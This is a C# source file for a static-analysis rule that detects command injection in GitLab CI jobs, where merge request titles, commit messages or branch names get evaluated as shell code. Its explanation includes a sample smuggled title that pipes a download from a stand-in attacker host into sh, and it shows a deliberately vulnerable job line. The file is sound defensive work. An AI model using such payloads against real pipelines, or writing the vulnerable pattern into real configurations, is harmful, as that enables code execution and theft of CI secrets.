using Bulwark.Documents.Yaml;
using Bulwark.Core;

namespace Bulwark.Rules.Ci;

/// <summary>CI101: a GitLab job evaluates a merge request title, commit message or branch name as code.</summary>
public sealed class GitLabScriptInjectionRule : GitLabRule
{
    public static readonly RuleInfo Rule = new(
        "CI101", "gitlab-script-injection", Family.Ci, Severity.High, Confidence.Medium, 78,
        What: """
            A `.gitlab-ci.yml` script line that evaluates a predefined variable whose text a merge request or commit
            author chooses — `$CI_MERGE_REQUEST_TITLE`, `$CI_MERGE_REQUEST_DESCRIPTION`, `$CI_COMMIT_MESSAGE`,
            `$CI_COMMIT_BRANCH`, `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`… — as code: in the argument of `eval`, or in a
            double-quoted `sh -c`, `bash -c`, `python -c`, `node -e` code string.
            """,
        Why: """
            The job's shell expands the variable before the evaluating command parses the result, so a title such as
            `x"; curl https://evil.example | sh; "` runs with the job's CI/CD variables and token. An ordinary argument
            (`echo "$CI_COMMIT_MESSAGE"`) is data and is not reported.
            """,
        Example: """
            notify:
              script:
                - sh -c "echo Building $CI_MERGE_REQUEST_TITLE"
            """,
        Fix: "Use the variable as a quoted argument (`echo \"$CI_MERGE_REQUEST_TITLE\"`), or pass it to the evaluated code as an environment variable read inside it (`sh -c 'echo \"$TITLE\"'`).",
        References:
        [
            "https://docs.gitlab.com/ci/variables/predefined_variables/",
            "https://docs.gitlab.com/ci/pipelines/merge_request_pipelines/#use-with-forked-projects",
        ])
    { Compliance = Compliance.Injection, Profiles = RuleProfile.Default };

    public override RuleInfo Info => Rule;

    public override void Check(YamlFile document, DocumentContext context)
    {
        if (document.Root is not YamlMapping root) return;
        var owners = new List<YamlMapping> { root };
        if (root.GetMapping("default") is { } d) owners.Add(d);
        foreach (var (_, job) in GitLabCi.Jobs(root)) owners.Add(job);
        var seen = new HashSet<YamlNode>(ReferenceEqualityComparer.Instance);
        foreach (var owner in owners)
            foreach (var line in GitLabCi.ScriptLines(owner))
            {
                if (!seen.Add(line)) continue;
                var text = document.SourceOf(line);
                foreach (var raw in text.Split('\n').Select((t, i) => (t, i)))
                    foreach (var (name, start, end) in ShellScript.ReevaluatedVariables(ShellScript.WithoutComment(raw.t)))
                    {
                        if (!GitLabCi.UserControlledVariables.Contains(name)) continue;
                        int offset = line.Start + LineOffset(text, raw.i);
                        context.Report(this, offset + start, offset + end,
                            $"`${name}` is chosen by the author of the merge request or commit, and this line evaluates it as code; use it only as a quoted argument");
                    }
            }
    }

    static int LineOffset(string text, int index)
    {
        int offset = 0;
        for (int i = 0; i < index; i++) offset = text.IndexOf('\n', offset) + 1;
        return offset;
    }
}
